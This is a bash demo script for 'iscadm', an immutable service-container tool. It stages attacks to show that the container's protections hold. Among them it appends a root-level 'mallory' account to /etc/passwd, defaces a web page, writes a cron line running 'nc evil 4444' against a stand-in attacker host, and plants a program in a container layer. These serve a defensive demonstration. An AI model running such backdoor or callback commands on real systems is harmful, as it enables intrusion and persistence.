#!/bin/bash
# make demo: an immutable service container on the embedded defaults, and what it protects.
set -u
B=${ISC_BUILD:-build}
# the ISC's name (tests/integration/t_demo.sh runs the demo as its own)
N=${DEMO_ISC:-web}
# the host port its web page is exposed on
PORT=${DEMO_PORT:-18080}
iscadm() { "$B/iscadm" "$@"; }
say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
run() { printf '$ %s\n' "$*"; "$@"; }
inside() { printf '%s# %s\n' "$N" "$*"; iscadm login $N -- sh -c "$*" 2>&1; echo "   (exit $?)"; }

say "this host's kernel: what isc uses of it, and what follows for ISCs"
run iscadm host check
say "the pool (loop-backed ext4 with encryption support under ${ISC_ROOT:-/var/lib/isc})"
iscadm list >/dev/null   # the first command that needs the pool creates and attaches it
run iscadm pool status
say "a base image from Debian's busybox-static, stored by its SHA-256"
iscadm image list | grep -q '^base ' || run iscadm image build base --from busybox
run iscadm image list
iscadm destroy -f $N-forensics >/dev/null 2>&1
iscadm destroy -f $N-dock >/dev/null 2>&1
iscadm halt $N >/dev/null 2>&1
iscadm destroy -f $N >/dev/null 2>&1
say "create and boot ISC $N (profile fixed-configuration, on the pool's bridge); the image is verified first"
run iscadm create $N --image base --set net=bridge
run iscadm boot $N
run iscadm list
say "the defence layers in force (list --json), and what $N may know about itself"
iscadm list --json | grep '"defence"'
inside 'isc-svc info'
say "the banner root sees on login"
iscadm login $N -- cat /etc/motd
say "root inside tries to change the system"
inside 'touch /etc/foo'
inside 'rm /bin/busybox'
inside 'echo "mallory:x:0:0::/root:/bin/sh" >> /etc/passwd'
inside 'cp /bin/busybox /tmp/sh && /tmp/sh'
say "what the profile allows still works"
inside 'echo "$(date) hello" >> /var/log/app.log && tail -1 /var/log/app.log'
inside 'isc-svc list; wget -q -O - http://127.0.0.1/'
say "the network: nothing in or out until the host says so; one port exposed, live"
run iscadm expose $N tcp:$PORT:80
printf '$ curl -s http://127.0.0.1:%s/   # on the host, through the exposure\n' "$PORT"
curl -s -m 5 "http://127.0.0.1:$PORT/"
# where the host has IPv6, the ISC has it too (fd69:7363::/64), under the same rules
h6=$(ip -6 -o addr show scope global -tentative 2>/dev/null | awk '$2 != "isc0" { sub(/\/.*/, "", $4); print $4; exit }')
if [ -n "$h6" ]; then
	printf '$ curl -s http://[%s]:%s/   # over IPv6, at one of the host'"'"'s own addresses\n' "$h6" "$PORT"
	curl -s -m 5 -g "http://[$h6]:$PORT/"
fi
gw=$(iscadm login $N -- ip route | sed -n 's/^default via \([0-9.]*\).*/\1/p')
inside "nc -w 2 $gw 22 </dev/null || echo 'egress refused (egress=deny)'"
run iscadm net status $N
say "a throwaway ISC: run --rm, one command, every protection on, nothing left when it ends"
printf '$ iscadm run --rm --image base -- sh -c '"'"'echo "$(hostname): uid $(id -u)"; touch /etc/x'"'"'\n'
iscadm run --rm --image base -- sh -c 'echo "$(hostname): uid $(id -u)"; touch /etc/x' 2>&1
echo "   (exit $?)"
ms=()
for i in 1 2 3 4 5; do
	t0=$EPOCHREALTIME
	iscadm run --rm --image base -- /bin/true
	t1=$EPOCHREALTIME
	ms+=("$(( (${t1/./} - ${t0/./}) / 1000 ))")
done
echo "five runs of /bin/true, start to exit: ${ms[*]} ms   (bench/start.sh: against runc)"
run iscadm list -p
say "the console, as the supervisor recorded it"
run iscadm console $N
say "data at rest: encrypted under $N's own key, kept outside the pool"
run iscadm key status
inside 'isc-svc info'
inside 'echo "card 4111-1111" > /var/log/secret.txt; echo tmp-work > /scratch/w; ls /scratch'
say "halt and unload the key: even host root now sees only ciphertext"
run iscadm halt $N
run iscadm key unload $N
ROOT=${ISC_ROOT:-/var/lib/isc}
run ls "$ROOT/pool/isc/$N/data"
f=$(find "$ROOT/pool/isc/$N/data" -type f | head -1)
run cat "$f"
sync
printf '$ grep -c "card 4111" %s   # the raw bytes of the pool\n' "$ROOT/pool.img"
grep -a -c "card 4111" "$ROOT/pool.img"
say "boot loads the key again from its keysource; /scratch starts empty every boot"
run iscadm boot $N
inside 'cat /var/log/secret.txt; ls -A /scratch | wc -l'
say "least privilege: every denied system call is reported to the supervisor"
inside 'mount -t tmpfs none /mnt'
inside 'unshare -U -r true'
inside 'cat /proc/self/status | grep -E "^(CapBnd|NoNewPrivs|Seccomp):"'
run iscadm stats $N
run iscadm notes $N | grep "seccomp: denied" | tail -2
say "freeze: the cgroup freezer stops every process of $N at once (snapshots, quarantine); thaw"
printf '$ grep -E "^0::|:pids:" /proc/<isc-init>/cgroup   # where its processes live\n'
grep -E '^0::|:pids:' "/proc/$(sed -n 's/^pid=//p' "/run/isc/$N/state")/cgroup"
run iscadm freeze $N
run iscadm list -p
inside 'true'
run iscadm thaw $N
say "integrity: what the writable layers change over the image (diff), and verify"
run iscadm diff $N
run iscadm verify $N
say "someone with the pool plants a program in $N's /var layer from outside: verify names it"
U="$ROOT/pool/isc/$N/data/layers/var/upper"
printf '$ cp /bin/busybox %s/log/helper\n' "$U"
cp /bin/busybox "$U/log/helper" && chown --reference="$U/log" "$U/log/helper"
run iscadm verify $N
echo "   (exit $?)"
rm -f "$U/log/helper"
say "maintenance only from the host: a transient writable boot, committed as a new image version"
run iscadm halt $N
run iscadm boot -W $N -- sh -c 'echo "patched $(date +%F)" > /etc/patch-level'
inside 'cat /etc/patch-level; echo tamper > /etc/patch-level'
run iscadm login -T $N -- sh -c 'echo "trusted fix" >> /etc/motd'
inside 'tail -1 /etc/motd'
say "halt: the trusted change is committed too; every version stays for rollback"
run iscadm halt $N
run iscadm history $N
say "each commit is a small erofs delta layer stacked on the version it ran on"
for d in $(iscadm history $N | cut -d' ' -f1); do
	printf '  %.12s  %s bytes\n' "$d" "$(stat -c %s "$ROOT/pool/images/$d.erofs")"
done
run iscadm list -p
say "snapshots: mark this state known good, let an attacker in, reset in one step"
run iscadm snapshot $N@patched --known-good
run iscadm boot $N
inside 'echo "defaced" > /var/www/index.html; echo "* * * * * nc evil 4444" > /var/spool/cron; cat /var/www/index.html'
say "a snapshot of the running ISC (frozen for the instant of the copy), cloned for forensics"
run iscadm snapshot $N@suspect
run iscadm clone $N@suspect $N-forensics
run iscadm diff $N-forensics
run iscadm halt $N
run iscadm reset $N
run iscadm boot $N
inside 'cat /var/www/index.html; ls /var/spool/cron 2>&1'
run iscadm snapshot -l
run iscadm destroy $N-forensics
run iscadm pool check
say "the dock: a supervisor that verifies on its own, and quarantines when it finds tampering"
run iscadm create $N-dock --image base --set verify-interval=2
run iscadm boot $N-dock
U2="$ROOT/pool/isc/$N-dock/data/layers/var/upper"
printf '$ cp /bin/busybox %s/helper   # planted from outside\n' "$U2"
cp /bin/busybox "$U2/helper" && chown --reference="$U2" "$U2/helper"
for i in $(seq 100); do iscadm list -p | grep -q "^$N-dock:quarantined:" && break; sleep 0.1; done
run iscadm list -p
iscadm notes $N-dock | tail -2
inside_of() { printf '%s# %s\n' "$1" "$2"; iscadm login "$1" -- sh -c "$2" 2>&1; echo "   (exit $?)"; }
inside_of $N-dock 'true'
rm -f "$U2/helper"
run iscadm release $N-dock
run iscadm halt $N-dock
run iscadm destroy $N-dock
say "the audit log: every command and the supervisors' records, hash-chained, out of every ISC's reach"
printf '$ iscadm audit %s | tail -6\n' "$N"
iscadm audit $N | tail -6
run iscadm audit --verify
say "one byte of an old record changed on the host: verify names the record"
LOG=$ROOT/pool/audit/log
cp "$LOG" "$LOG.demo"
printf '$ sed -i '"'"'3s/"time":"2/"time":"3/'"'"' %s\n' "$LOG"
sed -i '3s/"time":"2/"time":"3/' "$LOG"
run iscadm audit --verify
echo "   (exit $?)"
mv "$LOG.demo" "$LOG"
say "autoboot: isc.service runs boot -a at host start, halt -a at shutdown"
run iscadm set $N autoboot=true
run iscadm halt -a
run iscadm boot -a
run iscadm halt $N
say "the same rules for the containers of podman, containerd and Kubernetes: isc-runtime, an OCI runtime"
if command -v podman >/dev/null && [ -x "$B/isc-runtime" ]; then
	RT=$(readlink -f "$B/isc-runtime")
	# DEMO_PODMAN_ROOT: podman's storage elsewhere than its default (t_demo.sh uses its own)
	PODMAN=(podman --cgroup-manager cgroupfs --events-backend file)
	[ -n "${DEMO_PODMAN_ROOT:-}" ] && PODMAN+=(--root "$DEMO_PODMAN_ROOT/storage" --runroot "$DEMO_PODMAN_ROOT/run"
		--tmpdir "$DEMO_PODMAN_ROOT/tmp")
	# this kind of host lacks CAP_SYS_RESOURCE: podman's default limits would raise a hard one
	POPTS=(--network none --cgroup-parent /isc-demo --ulimit nofile=20000:20000 --ulimit nproc=4096:4096)
	tree=$(mktemp -d /tmp/isc-demo-tree.XXXXXX)
	mkdir -p "$tree/bin" "$tree/etc" "$tree/tmp" "$tree/mnt"
	cp /bin/busybox "$tree/bin/" && for a in sh touch cp mount grep true; do ln -s busybox "$tree/bin/$a"; done
	printf '$ tar -C TREE -c . | podman import - localhost/isc-demo   # the busybox tree as a podman image\n'
	tar -C "$tree" -c . | "${PODMAN[@]}" import - localhost/isc-demo >/dev/null 2>&1
	rm -rf "$tree"
	printf '$ podman --runtime %s run --rm localhost/isc-demo sh -c ...\n' "$RT"
	"${PODMAN[@]}" --runtime "$RT" run --rm "${POPTS[@]}" localhost/isc-demo sh -c \
		'touch /etc/x; cp /bin/busybox /tmp/b && /tmp/b true; mount -t tmpfs x /mnt; grep -E "^(NoNewPrivs|Seccomp):" /proc/self/status' 2>&1
	printf '$ podman --runtime %s run --rm --cap-add SYS_ADMIN localhost/isc-demo true\n' "$RT"
	"${PODMAN[@]}" --runtime "$RT" run --rm "${POPTS[@]}" --cap-add SYS_ADMIN localhost/isc-demo true 2>&1 |
		sed -n 's/.*isc-runtime: \(.*\)/isc-runtime: \1/p' | head -1
	printf '$ tail -1 /run/isc-runtime/denials.log   # seccomp denials, logged by the runtime'"'"'s monitor\n'
	tail -1 /run/isc-runtime/denials.log
	for d in /sys/fs/cgroup/*/isc-demo /sys/fs/cgroup/isc-demo; do
		[ -d "$d" ] && find "$d" -depth -type d -exec rmdir {} + 2>/dev/null
	done
	echo "   (docs/oci.md, docs/kubernetes.md: containerd, CRI-O and a RuntimeClass)"
else
	echo "   (no podman here: make deps installs it)"
fi
